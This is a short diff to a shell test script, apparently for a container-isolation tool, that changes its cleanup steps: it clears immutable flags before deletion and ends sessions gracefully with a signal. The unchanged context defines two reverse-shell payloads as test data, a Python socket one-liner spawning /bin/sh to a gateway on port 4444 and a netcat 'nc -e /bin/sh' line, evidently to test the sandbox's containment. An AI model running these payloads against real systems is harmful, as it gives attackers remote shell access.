@@ -12,6 +12,7 @@
 export COI_CONTAINER_PREFIX=coi-t-monkeys-
 tmp=$(mktemp -d /tmp/coi-t-monkeys-XXXX)
 t_defer "rm -rf '$tmp'"
+t_defer "chattr -R -i '$tmp'" # a session that was cut short leaves its protected paths immutable
 
 oneliner="python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$GW\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"
 netcat="(sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; nc -e /bin/sh 127.0.0.1 4444"
@@ -40,7 +41,8 @@ start() {
     (cd "$ws" && exec env COI_CONFIG="$tmp/$1.toml" "$COI" run --image "$T_IMAGE" -- sleep 60 \
         >"$tmp/$1.out" 2>&1) &
     pid=$!
-    t_defer "kill -9 $pid 2>/dev/null"
+    # on a bail-out: a session ended by a signal tears itself down
+    t_defer "kill -CONT $pid; kill -TERM $pid && for _ in \$(seq 100); do kill -0 $pid || break; sleep 0.1; done"
     t_wait_running "$name" || return 1
     # one process with that command line, and the pid file names it (not the parent that forks)
     spid=
